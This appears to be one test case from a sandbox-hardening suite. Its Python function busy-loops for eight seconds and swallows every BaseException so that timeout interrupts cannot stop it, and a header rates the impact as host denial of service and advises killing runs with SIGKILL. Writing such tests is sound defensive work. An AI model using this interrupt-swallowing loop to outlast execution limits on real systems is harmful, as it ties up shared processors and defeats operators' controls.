# title: Loop past the limit and swallow interrupts
# tries: Loops in Python for eight seconds and catches every exception that is thrown in to stop it.
# impact: HostDoS
# proof: returned
# host: never, it keeps a processor busy past the limit
# timeout: 0.5
# advice: End executions from outside by a clock of the server's own, with SIGKILL after a short grace.


def attempt(host):
    import time

    end = time.monotonic() + 8
    while time.monotonic() < end:
        try:
            while time.monotonic() < end:
                pass
        except BaseException:
            pass
    return "ran for 8 s"
